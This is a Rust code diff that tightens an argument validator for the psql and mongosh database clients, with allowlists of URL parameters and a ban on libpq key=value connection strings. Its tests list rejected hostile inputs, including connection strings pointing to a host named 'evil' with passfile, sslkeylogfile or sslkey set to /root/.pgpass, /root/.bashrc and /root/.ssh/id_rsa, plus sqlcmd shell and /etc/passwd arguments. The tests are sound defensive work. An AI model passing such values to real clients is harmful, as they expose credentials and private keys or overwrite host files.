@@ -99,14 +99,7 @@ const CLIENTS: &[Client] = &[
     },
     Client {
         name: "mongosh",
-        valued: &[
-            "--host",
-            "--port",
-            "-u",
-            "--username",
-            "--authenticationDatabase",
-            "--authenticationMechanism",
-        ],
+        valued: &["--host", "--port", "-u", "--username", "--authenticationDatabase"],
         flags: &["--tls", "--quiet", "--norc"],
         positional: Positional::Url(&["mongodb", "mongodb+srv"]),
     },
@@ -161,6 +154,9 @@ pub fn host_client(argv: &[String]) -> Result<(), String> {
                 if !client.valued.contains(&name) {
                     return bad(arg, "is not an allowed option");
                 }
+                if let Err(why) = connection_value(client, name, &arg[name.len() + 1..]) {
+                    return bad(arg, why);
+                }
                 continue;
             }
             if client.flags.contains(&arg.as_str()) {
@@ -170,7 +166,11 @@ pub fn host_client(argv: &[String]) -> Result<(), String> {
                 return bad(arg, "is not an allowed option");
             }
             match args.next() {
-                Some(value) if !value.starts_with('-') => {}
+                Some(value) if !value.starts_with('-') => {
+                    if let Err(why) = connection_value(client, arg, value) {
+                        return bad(value, why);
+                    }
+                }
                 Some(value) => return bad(value, &format!("(the value of {arg}) starts with '-'")),
                 None => return bad(arg, "has no value"),
             }
@@ -186,6 +186,9 @@ pub fn host_client(argv: &[String]) -> Result<(), String> {
                 if arg.contains("://") && !url_with_scheme(arg, schemes) {
                     return bad(arg, "is not a connection URL of this client");
                 }
+                if let Err(why) = connection_value(client, "", arg) {
+                    return bad(arg, why);
+                }
             }
             Positional::Url(schemes) => {
                 if positionals > 1 || !url_with_scheme(arg, schemes) {
@@ -194,6 +197,9 @@ pub fn host_client(argv: &[String]) -> Result<(), String> {
                         "is not one connection URL (other positional arguments are scripts)",
                     );
                 }
+                if let Err(why) = url_parameters(arg, MONGOSH_URL_KEYS) {
+                    return bad(arg, why);
+                }
                 // mongosh runs positionals that look like file names as scripts.
                 let lower = arg.to_ascii_lowercase();
                 if [".js", ".mjs", ".cjs", ".mongodb"].iter().any(|s| lower.ends_with(s)) {
@@ -201,6 +207,58 @@ pub fn host_client(argv: &[String]) -> Result<(), String> {
                 }
             }
         }
+    }
+    Ok(())
+}
+
+/// URL parameters a client may get from a plugin: none names a host file (`passfile`,
+/// `sslkey`, `servicefile`, `sslkeylogfile`, `tlsCAFile`…), hands credentials to another
+/// party (`gssdelegation`) or makes the client start a program (mongosh's OIDC login opens
+/// a browser).
+const PSQL_URL_KEYS: &[&str] = &[
+    "sslmode",
+    "application_name",
+    "connect_timeout",
+    "target_session_attrs",
+    "client_encoding",
+];
+const MONGOSH_URL_KEYS: &[&str] = &[
+    "authSource",
+    "tls",
+    "ssl",
+    "directConnection",
+    "replicaSet",
+    "retryWrites",
+    "appName",
+    "readPreference",
+    "connectTimeoutMS",
+    "serverSelectionTimeoutMS",
+];
+
+/// A value that reaches the client as a connection: for psql, a positional or `-d` value
+/// is a database name or a `postgresql://` URL with the parameters above only, never a
+/// `key=value` connection string (libpq would read `passfile=`, `sslkeylogfile=`… there).
+fn connection_value(client: &Client, option: &str, value: &str) -> Result<(), &'static str> {
+    if client.name != "psql" || !matches!(option, "" | "-d" | "--dbname") {
+        return Ok(());
+    }
+    if value.contains("://") {
+        if !url_with_scheme(value, &["postgresql", "postgres"]) {
+            return Err("is not a connection URL of this client");
+        }
+        return url_parameters(value, PSQL_URL_KEYS);
+    }
+    if value.contains('=') {
+        return Err("is a connection string (key=value), which can name host files");
+    }
+    Ok(())
+}
+
+/// Every query parameter of URL `value` is one of `allowed`.
+fn url_parameters(value: &str, allowed: &[&str]) -> Result<(), &'static str> {
+    let url = url::Url::parse(value).map_err(|_| "is not a URL")?;
+    if url.query_pairs().any(|(k, _)| !allowed.contains(&k.as_ref())) {
+        return Err("has a URL parameter that is not a plain connection setting");
     }
     Ok(())
 }
@@ -479,8 +537,32 @@ mod tests {
             &["sqlcmd", "-Q", "!! id"],
             &["sqlcmd", "-i", "/tmp/x.sql"],
             &["sqlcmd", "-o", "/etc/passwd"],
+            // libpq connection strings and URL parameters that name host files or send
+            // credentials elsewhere.
+            &["psql", "host=evil sslkeylogfile=/root/.bashrc"],
+            &["psql", "-d", "dbname=x passfile=/root/.pgpass host=evil"],
+            &["psql", "--dbname=service=evil"],
+            &["psql", "postgresql://evil/db?sslkeylogfile=/root/.bashrc"],
+            &["psql", "postgresql://evil/db?passfile=/root/.pgpass"],
+            &["psql", "postgres://h/db?servicefile=/tmp/x&service=a"],
+            &["psql", "postgresql://h/db?gssdelegation=1"],
+            &["psql", "-d", "postgresql://h/db?sslkey=/root/.ssh/id_rsa"],
+            &["mongosh", "mongodb://h/db?tlsCertificateKeyFile=/root/.ssh/id_rsa"],
+            &["mongosh", "mongodb://h/db?authMechanism=MONGODB-OIDC"],
+            &["mongosh", "--authenticationMechanism", "MONGODB-OIDC", "mongodb://h/db"],
         ] {
             assert!(host_client(&argv(bad)).is_err(), "{bad:?} passed");
+        }
+        // Plain connection settings still pass.
+        for good in [
+            &["psql", "postgresql://u@h:5432/db?sslmode=disable&application_name=x"][..],
+            &["psql", "-d", "mydb"],
+            &[
+                "mongosh",
+                "mongodb://u:p@h:27017/db?authSource=admin&directConnection=true",
+            ],
+        ] {
+            assert!(host_client(&argv(good)).is_ok(), "{good:?} refused");
         }
     }
 
